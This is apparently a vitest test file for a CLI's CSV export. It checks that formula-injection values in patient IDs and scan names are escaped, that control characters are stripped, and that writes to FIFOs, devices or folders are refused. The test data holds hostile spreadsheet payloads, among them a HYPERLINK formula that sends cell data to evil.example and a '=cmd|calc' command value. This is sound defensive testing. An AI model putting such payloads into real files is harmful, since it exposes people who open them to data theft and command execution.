import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedCatalog } from './catalog-seed';
import { buildMain, expectClearError, runCli } from './cli-run';

/**
 * Issue 13 item 6 through `stratum export-csv`: patient ids and file names that a spreadsheet would run
 * as formulas come out as text ('=...), control characters are gone, numbers stay numbers. Item 11:
 * an output that is a FIFO or a device is refused instead of blocking forever.
 */
const HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?q="&A1,"open")', '+SUM(1,2)', '-2+3', '@cmd', '\tTAB', '\rCR', 'NUL\u0000ID\u001b[31m'];
let work: string;
let home: string;

beforeAll(async () => {
  buildMain();
  work = mkdtempSync(join(tmpdir(), 'stratum-hostile-csv-'));
  home = join(work, 'home');
  await seedCatalog(home, [
    ...HOSTILE_IDS.map((patientId, i) => ({ patientId, originalPath: `/scans/NORMAL${i}.png` })),
    { patientId: 'P-7', originalPath: '/scans/=cmd|calc.png' },
  ]);
}, 120_000);
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** RFC 4180 rows (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else {
      cell += c;
    }
  }
  return rows;
}

describe('export-csv: formula injection', () => {
  it('neutralises every text cell a spreadsheet would evaluate, strips control characters, keeps numbers', () => {
    const out = join(work, 'thickness.csv');
    const run = runCli(['export-csv', '--out', out], { home });
    expect(run.status, run.stderr).toBe(0);
    const text = readFileSync(out, 'utf8');
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
    const [header, ...rows] = parseCsv(text);
    const col = (name: string) => header!.indexOf(name);
    const ids = new Set(rows.map((r) => r[col('patient_id')]!));
    for (const id of ids) if (id !== 'P-7' && !id.startsWith('NUL')) expect(id, JSON.stringify(id)).toMatch(/^'[=+\-@\t\r]/);
    expect(ids).toContain(`'=HYPERLINK("http://evil.example/?q="&A1,"open")`);
    expect(ids).toContain("'-2+3");
    expect(ids).toContain('NUL' + 'ID[31m');
    expect(ids).toContain('P-7');
    expect(new Set(rows.map((r) => r[col('scan_name')]))).toContain("'=cmd|calc.png");
    const thickness = rows.map((r) => r[col('thickness')]!).filter((v) => v !== '');
    expect(thickness.length).toBeGreaterThan(0);
    for (const v of thickness) expect(Number.isFinite(Number(v)), v).toBe(true);
  });
});

describe('export-csv: output targets', () => {
  it('onto a FIFO, a device or a folder: refused at once', () => {
    const pipe = join(work, 'out.fifo');
    execFileSync('mkfifo', [pipe]);
    expectClearError(runCli(['export-csv', '--out', pipe], { home, timeoutMs: 15_000 }), 'out.fifo', 'named pipe');
    expectClearError(runCli(['export-csv', '--out', '/dev/full'], { home, timeoutMs: 15_000 }), '/dev/full', 'system folder');
    expectClearError(runCli(['export-csv', '--out', work], { home, timeoutMs: 15_000 }), 'a folder, not a regular file');
  });
});
